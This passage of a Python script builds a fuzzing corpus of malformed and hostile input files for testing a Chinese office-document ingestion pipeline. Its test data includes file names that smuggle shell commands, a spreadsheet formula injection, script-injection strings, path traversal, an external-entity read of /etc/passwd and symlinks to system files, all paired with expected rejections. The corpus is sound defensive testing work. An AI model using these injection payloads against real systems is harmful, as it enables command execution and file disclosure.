M('notes.docx', '<w:p>' + r_('有注') + '<w:r><w:footnoteReference w:id="2"/></w:r><w:r><w:endnoteReference w:id="2"/></w:r></w:p>', 'footnote, endnote, comment', '脚注文字|尾注文字',
  extra={'word/footnotes.xml': f'<w:footnotes {NS}><w:footnote w:id="2">{p_("脚注文字")}</w:footnote></w:footnotes>', 'word/endnotes.xml': f'<w:endnotes {NS}><w:endnote w:id="2">{p_("尾注文字")}</w:endnote></w:endnotes>', 'word/comments.xml': f'<w:comments {NS}><w:comment w:id="1">{p_("批注文字")}</w:comment></w:comments>'},
  rels=''.join(f'<Relationship Id="r{i}" Type="{RT}{k}" Target="{k}.xml"/>' for i, k in enumerate(('footnotes', 'endnotes', 'comments'))), ct=''.join(ovr(f'word/{k}.xml', k) for k in ('footnotes', 'endnotes', 'comments')))
M('header_footer.docx', '<w:sectPr><w:headerReference w:type="default" r:id="h1"/><w:footerReference w:type="first" r:id="f1"/></w:sectPr>', 'header and first-page footer (document number, secrecy grade often there)', '页眉文号〔2026〕1号|页脚文字', extra={'word/header1.xml': f'<w:hdr {NS}>{p_("页眉文号〔2026〕1号")}</w:hdr>', 'word/footer1.xml': f'<w:ftr {NS}>{p_("页脚文字")}</w:ftr>'}, rels=f'<Relationship Id="h1" Type="{RT}header" Target="header1.xml"/><Relationship Id="f1" Type="{RT}footer" Target="footer1.xml"/>', ct=ovr('word/header1.xml', 'header') + ovr('word/footer1.xml', 'footer'))
M('hidden_vanish.docx', '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>隐藏文字</w:t></w:r>' + r_('可见文字') + '</w:p>', 'hidden text', '可见文字', '隐藏文字')
M('fields.docx', '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DATE \\@ "yyyy" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' + r_('域结果2026年') + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="TITLE">' + r_('简单域结果') + '</w:fldSimple></w:p>', 'field codes: results wanted, codes not', '域结果2026年|简单域结果', 'DATE')
M('ruby.docx', '<w:p><w:r><w:ruby><w:rt><w:r><w:t>pin</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>拼音正字</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>', 'ruby (pinyin guide)', '拼音正字')
M('hyperlink.docx', '<w:p><w:hyperlink r:id="x">' + r_('链接文字') + '</w:hyperlink><w:hyperlink w:anchor="y"><w:ins w:id="1">' + r_('链接内插入') + '</w:ins></w:hyperlink></w:p>', 'hyperlink and an insertion inside one', '链接文字|链接内插入', rels=f'<Relationship Id="x" Type="{RT}hyperlink" Target="http://192.0.2.1/" TargetMode="External"/>')
M('smarttag_customxml.docx', '<w:p><w:smartTag w:element="date" w:uri="x"><w:smartTagPr/>' + r_('2026年9月智能标记') + '</w:smartTag><w:customXml w:element="x">' + r_('自定义XML文字') + '</w:customXml></w:p><w:customXml w:element="y">' + p_('自定义XML段落') + '</w:customXml>', 'smart tags (Word 2003 put dates in them) and customXml', '2026年9月智能标记|自定义XML文字|自定义XML段落')
M('math_sym.docx', '<w:p><m:oMath><m:r><m:t>公式30%</m:t></m:r></m:oMath><w:r><w:sym w:font="Wingdings" w:char="F0FE"/></w:r>' + r_('符号后') + '</w:p>', 'math text and a Wingdings tick (done mark)', '公式30%|符号后')
M('dir_bdo.docx', '<w:p><w:dir w:val="ltr">' + r_('方向文字') + '</w:dir><w:bdo w:val="ltr">' + r_('覆盖文字') + '</w:bdo></w:p>', 'dir and bdo wrappers', '方向文字|覆盖文字')
M('altchunk.docx', '<w:altChunk r:id="ac"/>', 'altChunk (HTML part imported by Word)', '外来块文字', extra={'word/chunk.html': '<html><meta charset=utf-8><body>外来块文字</body></html>'}, rels=f'<Relationship Id="ac" Type="{RT}aFChunk" Target="chunk.html"/>')
M('autonumber.docx', ''.join(f'<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>{r_(t)}</w:p>' for t in ('推进改革', '扩大开放')), 'automatic numbering 一、二、 (the numbers are not in any w:t)', '一、推进改革|二、扩大开放', extra={'word/numbering.xml': f'<w:numbering {NS}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'}, rels=f'<Relationship Id="n" Type="{RT}numbering" Target="numbering.xml"/>', ct=ovr('word/numbering.xml', 'numbering'))
M('numbering_bad.docx', '<w:p><w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="-3"/></w:numPr></w:pPr>' + r_('坏编号文字') + '</w:p>', 'numPr to a level and list that do not exist', '坏编号文字')
M('nested_table.docx', tbl([['<w:tc>' + p_('外') + tbl([['内层任务', '内层单位']]) + p_() + '</w:tc>', '右']], grid=2), 'table in a cell', '内层任务|内层单位')
M('breaks.docx', '<w:p><w:r><w:t>甲</w:t><w:br/><w:t>乙</w:t><w:tab/><w:t>丙</w:t><w:noBreakHyphen/><w:t>丁</w:t><w:softHyphen/><w:t>戊</w:t><w:cr/><w:t>己</w:t></w:r></w:p>', 'breaks, tab, hyphens inside a run', '丙-丁')
M('del_paragraph_mark.docx', '<w:p><w:pPr><w:rPr><w:del w:id="1"/></w:rPr></w:pPr>' + r_('前半句') + '</w:p>' + p_('后半句'), 'deleted paragraph mark: Word shows one paragraph', '前半句|后半句')
M('image_only.docx', '<w:p><w:r><w:drawing/></w:r></w:p>', 'a scan in a docx: an empty drawing instead of text', '', '', 'parse_partial')
M('comment_range_split.docx', '<w:p>' + ''.join(f'<w:bookmarkStart w:id="{i}" w:name="b{i}"/>' + r_(ch) + f'<w:bookmarkEnd w:id="{i}"/><w:proofErr w:type="spellStart"/>' for i, ch in enumerate('完成老旧小区改造十二个')) + '</w:p>', 'one sentence in eleven runs between bookmarks', '完成老旧小区改造十二个')
M('ole_embedded.docx', '<w:p><w:r><w:object><v:shape/></w:object></w:r></w:p>', 'embedded object: the plan table is inside it', '', '', 'parse_partial', extra={'word/embeddings/oleObject1.bin': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 600}, rels=f'<Relationship Id="o" Type="{RT}oleObject" Target="embeddings/oleObject1.bin"/>')

# ---------- E type mismatch, empties, junk
T = os.environ.get('BADINPUTS_SOURCES', '')  # optional folder with a real .doc, see find()
def find(rel):
    p = f'{T}/{rel}'; return open(p, 'rb').read() if os.path.exists(p) else None
HTML = '<html><head><meta charset="%s"><title>t</title></head><body><h1>' + TITLE + '</h1><table><tr><th>序号<th>任务</tr><tr><td>1<td>完成老旧小区改造12个</tr></table></body></html>'
adoc = find('poi/files/test-data/document/simple.doc') or find('poi/files/test-data/document/SampleDoc.doc')
for nm, d, w, e in [('doc_named.docx', adoc, 'a real .doc (OLE) named .docx', 'parse_partial'), ('docx_named.doc', GOOD, 'a docx named .doc', 'parse'), ('html_named.doc', (HTML % 'gb2312').encode('gbk'), 'HTML (GBK) named .doc', 'parse'),
    ('docx_named.pdf', GOOD, 'a docx named .pdf', 'parse'), ('png_named.docx', b'\x89PNG\r\n\x1a\n' + b'\0' * 100, 'a PNG named .docx', 'reject'), ('text_named.docx', TITLE.encode('gbk'), 'GBK text named .docx', 'reject'),
    ('rtf_named.doc', b'{\\rtf1\\ansi\\ansicpg936 {\\uc1 \\u27491?\\u25991?}}', 'RTF named .doc', 'parse_partial'),
    ('mht_named.doc', b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset="gb2312"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + __import__('base64').b64encode((HTML % 'gb2312').encode('gbk')) + b'\r\n--b--', 'MHTML named .doc (OA systems export this)', 'parse_partial'),
    ('wordxml2003_named.doc', f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>{p_(TITLE)}</w:body></w:wordDocument>'.encode(), 'Word 2003 XML named .doc', 'parse_partial'),
    ('flatopc_named.docx', ('<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml"><pkg:xmlData>' + doc(p_(TITLE), '') + '</pkg:xmlData></pkg:part></pkg:package>').encode(), 'Flat OPC XML named .docx', 'parse_partial'),
    ('empty.docx', b'', 'zero bytes', 'reject'), ('empty.pdf', b'', 'zero bytes', 'reject'), ('empty.xlsx', b'', 'zero bytes', 'reject'), ('one_byte.docx', b'P', 'one byte', 'reject'), ('one_byte.pdf', b'%', 'one byte', 'reject'),
    ('magic_only.docx', b'PK\3\4', 'four bytes', 'reject'), ('magic_only.pdf', b'%PDF-1.7\n', 'header only', 'reject'), ('zeros_1mb.docx', b'\0' * (1 << 20), '1 MiB of NUL (disk fault)', 'reject'), ('zeros_1mb.pdf', b'\0' * (1 << 20), '1 MiB of NUL', 'reject'),
    ('random_1mb.docx', rnd.randbytes(1 << 20), '1 MiB of noise', 'reject'), ('random_1mb.pdf', rnd.randbytes(1 << 20), '1 MiB of noise', 'reject'), ('zip_of_files.docx', nest(1, 3, b'hello'), 'a plain zip named .docx', 'reject'),
    ('~$good.docx', b'\x05admin' + b' ' * 48 + b'\0' * 108, 'Word lock file', 'skip'), ('.~lock.good.docx#', b',admin,host,;', 'LibreOffice lock file', 'skip'), ('Thumbs.db', b'\xd0\xcf\x11\xe0' + b'\0' * 508, 'Windows thumbnails', 'skip'), ('.DS_Store', b'\0\0\0\1Bud1', 'macOS folder file', 'skip'), ('desktop.ini', b'[.ShellClassInfo]', 'Windows folder file', 'skip'), ('good.docx.crdownload', GOOD[:900], 'unfinished download', 'skip'), ('good.docx.tmp', GOOD[:900], 'unfinished copy', 'skip'), ('~WRL0001.tmp', GOOD, 'Word temporary', 'skip'), ('._good.docx', b'\0\5\x16\7\0\2\0\0Mac OS X' + b'\0' * 100, 'AppleDouble', 'skip'), ('README', b'text', 'no extension', 'reject'), ('good.exe', b'MZ' + b'\0' * 100, 'program', 'reject')]:
    if d is not None: put('type', nm, d, w, e, '完成老旧小区改造12个' if e == 'parse' else '')
p = P('type', 'sparse_10gib.docx'); f = open(p, 'wb'); f.write(GOOD); f.truncate(10 << 30); f.close(); reg(p, 'sparse file of 10 GiB (reads slowly; size limit must come before hashing)', 'reject')
p = P('type', 'sparse_10gib.pdf'); f = open(p, 'wb'); f.write(b'%PDF-1.7\n'); f.truncate(10 << 30); f.close(); reg(p, 'sparse file of 10 GiB', 'reject')

# ---------- F encryption
import msoffcrypto
from msoffcrypto.format.ooxml import OOXMLFile
o = io.BytesIO(); OOXMLFile(io.BytesIO(GOOD)).encrypt('secret', o)
put('encrypted', 'agile_password.docx', o.getvalue(), 'docx with an open password (OLE container, agile); password: secret', 'reject')
o = io.BytesIO(); OOXMLFile(io.BytesIO(GOOD)).encrypt('VelvetSweatshop', o)
put('encrypted', 'velvet_sweatshop.docx', o.getvalue(), 'encrypted with the default password VelvetSweatshop (Office opens it without asking)', 'parse_partial', '区教育局')
put('encrypted', 'agile_truncated.docx', o.getvalue()[:len(o.getvalue()) // 2], 'encrypted docx cut in half', 'reject')
put('encrypted', 'doc_protection.docx', D('' + p_('只读保护正文'), extra={'word/settings.xml': f'<w:settings {NS}><w:documentProtection w:edit="readOnly" w:enforcement="1" w:hash="x"/></w:settings>'}, rels=f'<Relationship Id="s" Type="{RT}settings" Target="settings.xml"/>', ct=ovr('word/settings.xml', 'settings')), 'edit protection only: text is readable', 'parse', '只读保护正文')

# ---------- G file names
NAMES = ['换\n行.docx', '制\t表.docx', '表情😀🎉.docx', '长' * 83 + '.docx', '反转\u202excod.exe.docx', '-rf.docx', '--help.docx', "=cmd|'C calc'!A0.docx", '+1.docx', '@SUM(1).docx', 'a"b\'c.docx', 'a;touch x.docx', '$(touch pwned).docx', '`touch pwned`.docx', '%s%n%x.docx', '{0}{x}.docx', '<script>alert(1)<\\script>.docx', '<img src=x onerror=alert(1)>.docx', 'a&b.docx', '尾空格 .docx', ' 首空格.docx', 'CON.docx', 'aux.docx', '大写.DOCX', '两.点..docx', '无扩展名', '.隐藏.docx', '全角点。docx', 'NFC_é.docx', 'NFD_é.docx', '..%2f..%2fetc%2fpasswd.docx', 'a\\..\\b.docx', '零宽\u200b.docx', 'Case.docx', 'case.docx', '*?.docx', 'report.html.docx', 'C:evil.docx', '~/x.docx'.replace('/', '∕'), '\x7f\x1b[31m红.docx']
os.makedirs(f'{R}/names', exist_ok=True)
for nm in NAMES: put('names', nm, GOOD, 'good content, odd file name', 'parse', '完成老旧小区改造12个')
for raw, w in [('工作计划.docx'.encode('gbk'), 'file name in GBK bytes (not UTF-8)'), (b'\xff\xfe\x80.docx', 'file name that is no text'), ]:
    pb = f'{R}/names/'.encode() + raw; open(pb, 'wb').write(GOOD); rows.append([os.fsdecode(b'names/' + raw), 'names', w, 'parse', '完成老旧小区改造12个', ''])
d = f'{R}/names/' + '/'.join(['深' * 80] * 12); os.makedirs(d); put_p = d + '/x.docx'; open(put_p, 'wb').write(GOOD); reg(put_p, 'path of about 2,900 bytes, 12 folders deep', 'parse', '完成老旧小区改造12个')

# ---------- H file system
os.makedirs(f'{R}/fs'); F = f'{R}/fs/'
os.symlink('/etc/passwd', F + 'link_passwd.docx'); reg(F + 'link_passwd.docx', 'symlink to /etc/passwd', 'skip', '', 'root:')
os.symlink(f'{R}/control/good.docx', F + 'link_good.docx'); reg(F + 'link_good.docx', 'symlink to a good file outside the inbox', 'skip')
os.symlink('nowhere.docx', F + 'link_dangling.docx'); reg(F + 'link_dangling.docx', 'dangling symlink', 'skip')
os.symlink('link_loop.docx', F + 'link_loop.docx'); reg(F + 'link_loop.docx', 'symlink to itself', 'skip')
os.symlink('/dev/zero', F + 'link_dev_zero.docx'); reg(F + 'link_dev_zero.docx', 'symlink to /dev/zero', 'skip')
os.symlink('/dev/zero', F + 'link_dev_zero.pdf'); reg(F + 'link_dev_zero.pdf', 'symlink to /dev/zero', 'skip')
os.symlink('..', F + 'link_parent'); reg(F + 'link_parent', 'symlink to the parent folder (endless walk)', 'skip')
os.mkfifo(F + 'fifo.docx'); reg(F + 'fifo.docx', 'FIFO with no writer', 'skip')
os.mkfifo(F + 'fifo.pdf'); reg(F + 'fifo.pdf', 'FIFO with no writer', 'skip')
os.makedirs(F + 'dir.docx/inner'); reg(F + 'dir.docx', 'directory named x.docx', 'skip')
os.makedirs(F + 'dir.pdf'); reg(F + 'dir.pdf', 'directory named x.pdf', 'skip')
s = socket.socket(socket.AF_UNIX); s.bind(F + 'sock.docx'); s.close(); reg(F + 'sock.docx', 'socket', 'skip')
open(F + 'unreadable.docx', 'wb').write(GOOD); os.chmod(F + 'unreadable.docx', 0); reg(F + 'unreadable.docx', 'mode 000', 'reject')
os.link(f'{R}/control/good.docx', F + 'hardlink.docx'); reg(F + 'hardlink.docx', 'hard link: same content as control/good.docx', 'parse', '区教育局')
open(F + 'same_bytes_other_name.docx', 'wb').write(GOOD); reg(F + 'same_bytes_other_name.docx', 'same bytes under another name (ingest once)', 'parse', '区教育局')
open(F + 'mtime_future.docx', 'wb').write(GOOD); os.utime(F + 'mtime_future.docx', (4e9, 4e9)); reg(F + 'mtime_future.docx', 'mtime in 2096', 'parse', '区教育局')
open(F + 'mtime_1970.docx', 'wb').write(GOOD); os.utime(F + 'mtime_1970.docx', (0, 0)); reg(F + 'mtime_1970.docx', 'mtime 1970', 'parse', '区教育局')

# ---------- I text and html
body = f'{TITLE}\n1,完成老旧小区改造12个,区住建局\n'
for nm, d, e in [('gbk.txt', body.encode('gbk'), 'parse'), ('gb18030_4byte.txt', (body + '㐀𠮷𪚥').encode('gb18030'), 'parse'), ('utf16le_bom.txt', body.encode('utf-16'), 'parse'), ('utf16be_nobom.txt', body.encode('utf-16-be'), 'parse_partial'), ('big5.txt', '某區重點工作任務\n1,完成老舊小區改造12個\n'.encode('big5'), 'parse'), ('utf8_bom.csv', b'\xef\xbb\xbf' + body.encode(), 'parse'), ('mixed_gbk_utf8.txt', body.encode('gbk') + body.encode(), 'reject'), ('nul_in_text.txt', body.encode().replace(b',', b'\0'), 'reject'), ('lone_surrogate.txt', b'\xed\xa0\x80' + body.encode(), 'reject'), ('bad_utf8_one_byte.txt', body.encode()[:-3] + b'\xff\n', 'reject'), ('hz.txt', body.encode('hz'), 'parse_partial')]:
    put('text', nm, d, 'encoding test', e, '完成老旧小区改造12个' if e == 'parse' and 'big5' not in nm else '')
for nm, d, w, e in [('gb2312_meta_gbk_body.html', (HTML % 'gb2312').replace('12个', '12个镕').encode('gbk'), 'declares gb2312, uses GBK characters', 'parse'), ('says_utf8_is_gbk.html', (HTML % 'utf-8').encode('gbk'), 'declares UTF-8, is GBK', 'parse'), ('no_charset_gbk.html', (HTML % '').replace('<meta charset="">', '').encode('gbk'), 'no charset, GBK', 'parse'), ('utf16_says_utf8.html', (HTML % 'utf-8').encode('utf-16'), 'UTF-16 with BOM, declares UTF-8', 'parse'),
    ('deep_100k_div.html', b'<div>' * 100000 + '底'.encode(), '100,000 nested div', 'reject'), ('deep_100k_table.html', b'<table><tr><td>' * 20000 + '底'.encode(), '20,000 nested tables', 'reject'), ('colspan_1e9.html', '<table><tr><td colspan=1000000000>甲<td>乙</table>'.encode(), 'colspan=1e9', 'parse'), ('rowspan_1e9.html', '<table><tr><td rowspan=1000000000>甲<td>乙</table>'.encode(), 'rowspan=1e9', 'parse'), ('script.html', ('<script>document.write("x")</script><style>a{}</style><noscript>n</noscript>' + HTML % 'utf-8').encode(), 'scripts and styles around the text', 'parse'), ('unclosed_200k_td.html', b'<table>' + b'<tr><td>x' * 200000, '200,000 unclosed rows', 'parse_partial'), ('comment_bomb.html', b'<!--' * 500000, 'half a million unclosed comments', 'reject'), ('entity_bomb.html', b'&amp;' * 2000000, '2 million entities', 'reject'), ('frameset.html', b'<frameset><frame src="file:///etc/passwd"></frameset>', 'frameset to a local file (must not be followed)', 'reject'), ('meta_refresh.html', b'<meta http-equiv=refresh content="0;url=http://192.0.2.1/">', 'refresh (must not be followed)', 'reject'), ('svg_xxe.html', b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body>&x;</body></html>', 'XHTML with external entity', 'reject')]:
    put('html', nm, d, w, e, '完成老旧小区改造12个' if nm in ('gb2312_meta_gbk_body.html', 'says_utf8_is_gbk.html', 'no_charset_gbk.html', 'utf16_says_utf8.html', 'script.html') else '', 'root:' if 'xxe' in nm or 'frameset' in nm else '')
print(len(rows), 'so far')
exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'make2.py')).read())
with open(f'{R}/index.csv', 'w', newline='', encoding='utf-8', errors='surrogateescape') as f:
    w = csv.writer(f); w.writerow(['path', 'group', 'what', 'expect', 'must_see', 'must_not_see'])
    for r in sorted(rows): w.writerow([x.replace('\n', '\\n') if k == 0 else x for k, x in enumerate(r)])
import json
json.dump(rows, open(f'{R}/index.json', 'w'), ensure_ascii=True, indent=0)
print(len(rows), 'files')
